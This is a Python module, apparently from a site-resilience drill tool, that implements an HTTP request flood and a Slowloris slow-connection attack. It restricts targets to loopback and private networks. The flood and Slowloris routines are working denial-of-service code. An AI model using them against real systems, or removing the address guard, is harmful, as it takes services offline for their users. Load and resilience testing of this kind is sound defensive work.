"""Visitors who mean harm, bounded: a flood of requests, connections that never finish. Against this machine only."""

import asyncio
import contextlib
import ipaddress
import itertools
import ssl
import threading
import time
from collections import Counter
from collections.abc import Coroutine
from dataclasses import dataclass, field
from typing import Protocol
from urllib.parse import urlsplit

from lampstand.errors import LampstandError

SOURCE = "127.0.0.66"
"""Where the attack comes from: an address of this machine that no legitimate visitor of a drill has."""

_OURS = [
    ipaddress.ip_network(n)
    for n in ("127.0.0.0/8", "10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "::1/128", "fc00::/7")
]
"""The loopback, and private networks, in which containers live (RFC 1918, RFC 4193)."""

FLOOD_RATE = 300.0
"""Requests a second. Each has a URL of its own, so that no edge can answer it from memory."""

FLOOD_CONNECTIONS = 20
SLOW_CONNECTIONS = 300


class Attack(Protocol):
    """Something that goes on until `stop`."""

    def start(self) -> None:
        """Begin."""
        ...

    def stop(self) -> dict[str, int]:
        """End; what became of it, in counts."""
        ...


@dataclass(frozen=True, slots=True)
class Front:
    """Where the attack goes."""

    host: str
    port: int
    tls: bool
    path: str

    @classmethod
    def of(cls, url: str) -> "Front":
        """From a URL. Raises LampstandError for one that is neither on this machine nor on a private network of it."""
        parts = urlsplit(url)
        host = parts.hostname or ""
        try:
            address = ipaddress.ip_address(host)
            here = any(address in network for network in _OURS if network.version == address.version)
        except ValueError:
            here = host == "localhost"
        if not here:
            raise LampstandError("an attack is only made against this machine and its private networks", url)
        tls = parts.scheme == "https"
        return cls(host, parts.port or (443 if tls else 80), tls, parts.path or "/")

    @property
    def source(self) -> str | None:
        """The attacker's address; on another network than the loopback it is that of all visitors."""
        return SOURCE if self.host.startswith("127.") else None

    @property
    def url(self) -> str:
        """Where requests go."""
        return f"{'https' if self.tls else 'http'}://{self.host}:{self.port}{self.path}"

    async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """A connection from the attacker's address."""
        context: ssl.SSLContext | None = None
        if self.tls:
            context = ssl.create_default_context()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        source = (self.source, 0) if self.source else None
        return await asyncio.wait_for(
            asyncio.open_connection(self.host, self.port, ssl=context, local_addr=source), 5.0
        )


@dataclass
class _InThread:
    """Runs a coroutine in a thread of its own until it is told to stop."""

    front: Front
    counts: Counter[str] = field(default_factory=Counter[str])

    def start(self) -> None:
        """Begin."""
        self._loop = asyncio.new_event_loop()
        self._over = asyncio.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def stop(self) -> dict[str, int]:
        """End; counts by what was seen."""
        self._loop.call_soon_threadsafe(self._over.set)
        self._thread.join(20.0)
        return dict(self.counts)

    def _run(self) -> None:
        with contextlib.closing(self._loop):
            self._loop.run_until_complete(self._all())

    async def _all(self) -> None:
        tasks = [asyncio.create_task(c) for c in self._clients()]
        await self._over.wait()
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)

    def _clients(self) -> list[Coroutine[None, None, None]]:
        raise NotImplementedError


class Flood(_InThread):
    """Many requests a second from one address; counts answers by status."""

    def _clients(self) -> list[Coroutine[None, None, None]]:
        return [self._client(n) for n in range(FLOOD_CONNECTIONS)]

    async def _client(self, number: int) -> None:
        import httpx

        transport = httpx.AsyncHTTPTransport(verify=False, local_address=self.front.source)
        every = FLOOD_CONNECTIONS / FLOOD_RATE
        async with httpx.AsyncClient(transport=transport, timeout=5.0) as client:
            for turn in itertools.count():
                due = time.monotonic() + every
                self.counts["requests"] += 1
                try:
                    answer = await client.get(self.front.url, params={"flood": f"{number}-{turn}"})
                    self.counts[str(answer.status_code)] += 1
                except httpx.HTTPError:
                    self.counts["no answer"] += 1
                await asyncio.sleep(max(0.0, due - time.monotonic()))


class Slowloris(_InThread):
    """Connections that send a byte a second and never finish: half of them headers, half a body.

    Counts how many were opened, and how many of them were ended by the other side.
    """

    def _clients(self) -> list[Coroutine[None, None, None]]:
        return [self._client(n) for n in range(SLOW_CONNECTIONS)]

    async def _client(self, number: int) -> None:
        body = number % 2 == 0
        begin = f"{'POST' if body else 'GET'} {self.front.path} HTTP/1.1\r\nHost: {self.front.host}\r\n"
        if body:
            begin += "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\n"
        await asyncio.sleep(number / SLOW_CONNECTIONS)
        while True:
            writer: asyncio.StreamWriter | None = None
            try:
                reader, writer = await self.front.connect()
                self.counts["opened"] += 1
                writer.write(begin.encode())
                ended = asyncio.ensure_future(reader.read(1))
                while not ended.done():
                    writer.write(b"x" if body else b"X: y\r\n")
                    await writer.drain()
                    await asyncio.wait([ended], timeout=1.0)
                self.counts["ended by the site"] += 1
            except (OSError, TimeoutError):
                self.counts["ended by the site"] += 1
                await asyncio.sleep(1.0)
            finally:
                if writer is not None:
                    with contextlib.suppress(OSError):
                        writer.close()
